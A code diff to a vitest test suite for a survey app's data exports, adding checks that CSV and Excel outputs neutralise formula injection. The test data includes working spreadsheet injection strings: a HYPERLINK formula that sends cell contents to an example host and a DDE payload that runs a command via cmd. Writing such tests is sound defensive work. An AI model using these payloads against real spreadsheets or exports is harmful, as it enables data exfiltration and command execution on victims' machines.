@@ -1,10 +1,14 @@
 import { randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
+import { parseCsvRows } from '../src/lib/csv.js';
 import { createTestApp, loginAs, roleCaller, type TestApp } from './helpers.js';
 import { newProject, openFieldPhase } from './support/surveys.js';
 import { mixPool } from '../src/modules/surveys/mixing.js';
 
+// Free-text answers that spreadsheet software would run as formulas (CSV injection).
+const FORMULAS = ['=HYPERLINK("https://example.org/?d="&A1,"Klick")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '+49 351 123'];
 let t: TestApp;
 let call: Awaited<ReturnType<typeof roleCaller>>;
 let codes: string[] = [];
@@ -17,7 +21,7 @@ beforeAll(async () => {
   id = await newProject(t, lpr);
   codes = await openFieldPhase(t, lpr, id, 40);
   for (const [i, code] of codes.slice(0, 10).entries()) {
-    await call(null, 'POST', '/api/public/survey/submit', { code, submissionId: randomUUID(), answers: { AF01: (i % 4) + 1, ME01: [1, 3], IN01: { IN01_a: 2 }, PS01: { PS01_a: 9 }, ME02: 'Mehr Licht; "bitte"', SD03: 1 } });
+    await call(null, 'POST', '/api/public/survey/submit', { code, submissionId: randomUUID(), answers: { AF01: (i % 4) + 1, ME01: [1, 3], IN01: { IN01_a: 2 }, PS01: { PS01_a: 9 }, ME02: FORMULAS[i] ?? 'Mehr Licht; "bitte"', SD03: 1 } });
   }
 });
 afterAll(async () => { await t?.close(); });
@@ -73,10 +77,30 @@ describe('exports', () => {
     expect(header.slice(0, 4)).toEqual(['lfd', 'modus', 'datum', 'fassung']);
     for (const v of ['AF01', 'IN01_a', 'PS01_d', 'ME01_1', 'ME01_8', 'FP01_n', 'FP01_5_zeit', 'SD03']) expect(header).toContain(v);
     expect(csv.body).toContain('"Mehr Licht; ""bitte"""');
+    // Formula-like text leaves with a quote in front, quoted; numbers stay plain numbers.
+    expect(csv.body).toContain(`;"'=HYPERLINK(""https://example.org/?d=""&A1,""Klick"")";`);
+    const rows = parseCsvRows(csv.body.replace(/^\uFEFF/, ''), ';');
+    const at = (name: string) => rows[0]!.indexOf(name);
+    const me02 = rows.slice(1).map((r) => r[at('ME02')]!);
+    for (const f of FORMULAS) expect(me02).toContain(`'${f}`);
+    expect(me02.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
+    expect(rows.slice(1).map((r) => r[at('lfd')])).toEqual(Array.from({ length: 13 }, (_, i) => String(i + 1)));
+    expect(rows.slice(1).filter((r) => r[at('modus')] === '1').every((r) => /^[1-4]$/.test(r[at('AF01')]!))).toBe(true);
     const wb = new ExcelJS.Workbook();
-    await wb.xlsx.load((await call('lpr_staff', 'GET', `/api/analyses/${id}/export?format=xlsx`)).rawPayload as unknown as ArrayBuffer);
+    const xlsx = (await call('lpr_staff', 'GET', `/api/analyses/${id}/export?format=xlsx`)).rawPayload;
+    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
     expect(wb.worksheets.map((w) => w.name)).toEqual(['Antworten', 'Codebuch']);
-    expect(wb.getWorksheet('Antworten')!.rowCount).toBe(14);
+    const sheet = wb.getWorksheet('Antworten')!;
+    expect(sheet.rowCount).toBe(14);
+    // In the workbook the same text is a text cell, never a formula; the scale answers are numbers.
+    const col = (name: string) => (sheet.getRow(1).values as string[]).indexOf(name);
+    const data = Array.from({ length: 13 }, (_, i) => sheet.getRow(i + 2));
+    const texts = data.map((r) => r.getCell(col('ME02')));
+    expect(texts.map((c) => c.value)).toEqual(expect.arrayContaining(FORMULAS));
+    expect(texts.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
+    expect(data.filter((r) => r.getCell(col('modus')).value === 1).every((r) => typeof r.getCell(col('AF01')).value === 'number')).toBe(true);
+    const sheetXml = await (await JSZip.loadAsync(xlsx)).file('xl/worksheets/sheet1.xml')!.async('string');
+    expect(sheetXml).not.toContain('<f>');
     const codebook = (await call('lpr_staff', 'GET', `/api/analyses/${id}/export?format=codebook`)).body;
     expect(codebook).toContain('AF01;Wie sicher fühlen Sie sich, wenn Sie nachts allein in Ihrer Wohngegend unterwegs sind?;Zahl;"1=sehr sicher; 2=ziemlich sicher');
     const sps = (await call('lpr_staff', 'GET', `/api/analyses/${id}/export?format=sps`)).body;
